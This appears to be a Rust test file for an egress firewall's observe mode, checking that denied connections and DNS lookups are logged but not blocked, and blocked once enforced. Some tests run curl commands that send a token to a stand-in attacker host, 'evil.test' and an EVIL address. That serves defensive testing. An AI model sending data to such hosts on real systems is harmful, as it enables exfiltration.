//! `--observe`: the same verdicts, told and not carried out.

use super::{Job, lines};
use crate::job::end;
use lab::{DNS, EVIL, Lab, need};
use nix::sys::signal::Signal;
use serde_json::Value;

#[test]
fn observing_blocks_nothing_and_tells_everything() {
    need("dig");
    let lab = Lab::new();
    let job = Job::new(&lab, "job");
    let attach = job.attached("--allow ok.test --observe");
    let (code, status) = job.status();
    assert_eq!((code, &status["mode"]), (Some(0), &"observe".into()));
    for (name, target) in
        [("ok", "ok.test"), ("name", "f.test"), ("address", "198.51.100.20"), ("v6", "[2001:db8::20]")]
    {
        assert_eq!(job.curl(target, &lab.token(name)), Some(0), "{target}");
        lab.expect_hits(&lab.token(name), 1);
    }
    let text = job.sh("dig +short +tries=1 +time=2 TXT unlisted.test; echo");
    text.exits(0);
    assert!(!lab.zone().queries_for("unlisted.test").is_empty(), "an unlisted name is asked for: {text}");

    let events = lines(lab.egressd("events").flags("--json --verdict would_deny").output().exits(0));
    let told =
        |event: &str, key: &str, value: &str| events.iter().any(|one| one["event"] == event && one[key] == value);
    assert!(told("connect", "dst_ip", &EVIL.to_string()) && told("connect", "dst_ip", "2001:db8::20"), "{events:#?}");
    assert!(told("dns", "dst_name", "f.test"), "{events:#?}");
    let all = lines(lab.egressd("events").flags("--json").output().exits(0));
    assert!(!all.iter().any(|event| event["verdict"] == "deny"), "nothing was blocked: {all:#?}");
    let about_ok = |event: &&Value| event["dst_name"] == "ok.test" || event["dst_ip"] == "198.51.100.10";
    assert!(all.iter().filter(about_ok).all(|event| event["verdict"] != "would_deny"), "{all:#?}");
    let explained = lab.egressd("explain").arg("198.51.100.20:80/tcp").flags("--json").output();
    let explained: Value = serde_json::from_str(&explained.exits(0).stdout).unwrap();
    assert_eq!(explained["explanations"][0]["verdict"], "would_deny");
    end(attach, Signal::SIGINT).exits(0);

    // The twin: the same policy in force.
    let attach = job.attached("--allow ok.test");
    assert_eq!(job.curl("198.51.100.20", &lab.token("enforced")), Some(7));
    assert!(job.curl("f.test", &lab.token("enforced")).is_some_and(|code| code != 0));
    end(attach, Signal::SIGINT).exits(0);
    assert_eq!(lab.hits(&lab.token("enforced")).len(), 0);
}

#[test]
fn run_observes_and_ends_with_the_flags_that_would_be_needed() {
    let lab = Lab::new();
    for (shape, run) in lab.shapes() {
        let token = lab.token(shape);
        let output = run.flags("--observe").sh(&format!("curl -fsS -m3 http://evil.test/{token}")).output();
        output.exits(0).says("--allow evil.test");
        lab.expect_hits(&token, 1);
    }
    // A policy that observes cannot be pinned: somebody must answer DNS.
    let job = Job::new(&lab, "job");
    job.attach("--observe --pin").output().exits(2).says("--pin");
    lab.egressd("run")
        .env("EGRESSD_OBSERVE", "true")
        .sh(&format!("curl -sS -m3 http://{EVIL}/{}", lab.token("env")))
        .output()
        .exits(7);
    assert_eq!(lab.hits(&lab.token("env")).len(), 0, "the environment opens nothing");
    assert!(lab.frames_to(DNS).len() > 1);
}
